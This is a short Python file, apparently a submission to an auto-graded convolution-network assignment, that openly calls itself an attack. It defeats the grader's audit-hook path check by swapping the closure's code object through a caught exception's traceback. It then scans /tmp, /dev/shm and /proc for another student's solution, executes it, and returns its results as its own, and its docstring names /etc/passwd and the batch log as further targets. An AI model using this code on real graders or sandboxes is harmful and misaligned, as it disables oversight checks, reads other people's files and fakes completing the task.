"""Attack: defeat the audit hook's path check for real (a tripwire, not a boundary): take the hook's
frame from the traceback of a refused open and swap the code of the path check in its closure, so
every path passes. Then read what the grader's host holds: a classmate's
file to copy, the batch's log, /etc/passwd. Only the kernel stands in the way now."""
import glob
import os
import types


def _defeat():
    try:
        open("/etc/hostname")
    except PermissionError as exc:
        tb = exc.__traceback__
        while tb is not None:
            check = tb.tb_frame.f_locals.get("outside")  # the hook's path check, a cell of its closure
            if callable(check):
                names = check.__code__.co_freevars  # a new body must keep the number of cells
                src = ("def make():\n" + "".join(f"    {n} = None\n" for n in names) + "    def outside(arg):\n"
                       f"        ({', '.join(names)},)\n        return False\n    return outside\n")
                scope = {}
                exec(src, scope)
                check.__code__ = scope["make"]().__code__
                return True
            tb = tb.tb_next
    return False


_defeat()


def _classmate():
    found = []
    for pattern in ("/tmp/**/*.py", "/tmp/**/*.jsonl", "/dev/shm/**", "/proc/*/cwd/*.py"):
        try:
            found += glob.glob(pattern, recursive=True)
        except Exception:
            pass
    for path in found:
        try:
            with open(path) as fh:
                src = fh.read()
        except Exception:
            continue
        if "def conv_forward_naive" in src and "hook_code_swap" not in src:
            mod = types.ModuleType("classmate")
            exec(compile(src, path, "exec"), mod.__dict__)
            return mod
    raise RuntimeError("no classmate within reach")


def conv_forward_naive(x, w, b, conv_param):
    return _classmate().conv_forward_naive(x, w, b, conv_param)


def conv_backward_naive(dout, cache):
    return _classmate().conv_backward_naive(dout, cache)


def max_pool_forward_naive(x, pool_param):
    return _classmate().max_pool_forward_naive(x, pool_param)


def max_pool_backward_naive(dout, cache):
    return _classmate().max_pool_backward_naive(dout, cache)
